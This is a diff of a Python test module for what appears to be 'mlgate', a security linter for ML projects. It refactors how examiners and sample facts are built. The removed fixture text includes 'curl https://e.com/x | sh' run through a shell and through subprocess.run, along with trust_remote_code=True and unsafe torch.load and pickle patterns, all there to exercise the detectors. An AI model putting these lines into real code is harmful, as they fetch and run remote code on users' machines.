@@ -10,31 +10,25 @@ import json
 import re
 import warnings
 from collections.abc import Callable, Iterator, Mapping
+from dataclasses import replace
 from functools import cache
 from typing import Any
 
-from facts_of import EVERYTHING
+from examined import SEEN_BY_PARSERS, Unscreened, examiner
 
 from mlgate import documents, yaml_strict
-from mlgate.cache import Cache
 from mlgate.discover import source
 from mlgate.documents.decoding import decode
 from mlgate.errors import MlgateError, PolicyError
 from mlgate.examine import Examiner
 from mlgate.facts import magics
 from mlgate.facts.magics import scripts
-from mlgate.law import Law, derive, reexports
 from mlgate.match import Circumstances, Index, match
-from mlgate.model import Document, Fact, Kind, Problem, Source, Span
-from mlgate.modules import Modules
+from mlgate.model import Fact, Kind, Problem, Source, Span
 from mlgate.policy import load, load_bundle, params_for
 from mlgate.policy.sources import InMemory
 from mlgate.policy.waivers_text import added
-from mlgate.project import Repository
-from mlgate.trees import Memory
-
-SEEN_BY_PARSERS = frozenset({"input/unparsed", "input/too-deep", "input/unreadable"})
-"""What only a parser tells of a Python file; one without a word of any rule hides nothing from them."""
+from mlgate.verbs.policy_test import forms
 
 BETWEEN = b"\n#----\n"
 """What parts the two modules of a program."""
@@ -144,13 +138,6 @@ def _tree(text: str) -> str | None:
 # --- Python: any text ends in facts that stand in it, and the screen changes nothing
 
 
-class Unscreened(Examiner):
-    """Reads everything."""
-
-    def _is_admitted(self, source: Source) -> bool:
-        return True
-
-
 def python(data: bytes) -> None:
     first, _, second = data.partition(BETWEEN)
     files = {"a.py": first, "helpers.py": second}
@@ -161,13 +148,11 @@ def python(data: bytes) -> None:
 
 
 def _found(files: Mapping[str, bytes], *, screened: bool) -> set[tuple[str, str, str]]:
-    known = reexports(law(), files.get)
-    project = Repository(Memory(files), modules(), known)
-    examiner = (Examiner if screened else Unscreened)(law(), project, known, Cache(None), 0)
+    judge = examiner(files, Examiner if screened else Unscreened)
     found = set()
     for path, data in files.items():
         rows = len(decode(data, cookies=True, utf8_only=False).text.split("\n"))
-        for finding in examiner.examine(source(path, data, "test")).findings:
+        for finding in judge.examine(source(path, data, "test")).findings:
             assert 1 <= finding.location.line <= rows
             found.add((finding.rule, path, finding.fingerprint))
     return found
@@ -274,49 +259,19 @@ def _stands_in(span: Span, rows: list[str]) -> None:
 
 
 @cache
-def law() -> Law:
-    return derive(load_bundle(), (), None)
-
-
-@cache
-def modules() -> Modules:
-    return Modules(law().vocabulary)
-
-
-@cache
 def facts() -> tuple[Fact, ...]:
-    """Of every kind and every sort of value."""
-    from mlgate.extract import extract
+    """Of every kind: what is in the first bad example of each shipped rule, each name once."""
+    found: dict[tuple[str, str], Fact] = {}
+    for rule in load_bundle().rules.values():
+        for _, example in forms(rule.bad[0]) if rule.bad else ():
+            files = {path: text.encode("utf-8", "surrogatepass") for path, text in example.files.items()}
+            judge = examiner(files)
+            for path, data in files.items():
+                found |= {(fact.kind, fact.name): fact for fact in judge.seen(source(path, data, "test"))[0]}
+    call = next(fact for fact in found.values() if fact.kind == "call")
+    # No shipped rule asks for these, so nothing sees them.
+    return (*found.values(), *(replace(call, kind=kind) for kind in ("import", "class")))
 
-    texts = {
-        "a.ipynb": json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5, "x": "a" * 99}),
-        "a.py": _PROGRAM,
-        "a.yaml": "model: acme/chat\nenv:\n  A: [1, 2]\n",
-        "a.sh": "pip install x==1 && curl https://e.com/x | sh\n",
-        "Dockerfile": "FROM python\nRUN pip install x\n",
-        "requirements.txt": "torch>=2\nx @ git+https://github.com/a/b\n",
-    }
-    found: list[Fact] = []
-    for path, text in texts.items():
-        document = documents.load(source(path, text.encode(), "test"))
-        assert isinstance(document, Document)
-        found += extract(document, EVERYTHING, Repository(Memory({}), modules(), None), law().detectors)
-    return tuple(found)
-
-
-_PROGRAM = """\
-import os, pickle, torch, subprocess
-from transformers import AutoModel
-def load(path, name="acme/chat", **more):
-    torch.load(path, **more)
-    return AutoModel.from_pretrained(name, revision="main", trust_remote_code=True)
-for name in ("a/b", f"c/{os.environ['X']}", None, 3, 1.5, b"x"):
-    load("s3://prod/x.pt", name, weights_only=name)
-subprocess.run(["sh", "-c", "curl https://e.com/x | sh"], env={"A": "b"})
-os.environ["TRUST_REMOTE_CODE"] = "1"
-class R(pickle.Unpickler):
-    pass
-"""
 
 LAWS: dict[str, Callable[[bytes], None]] = {
     "notebook": notebook,
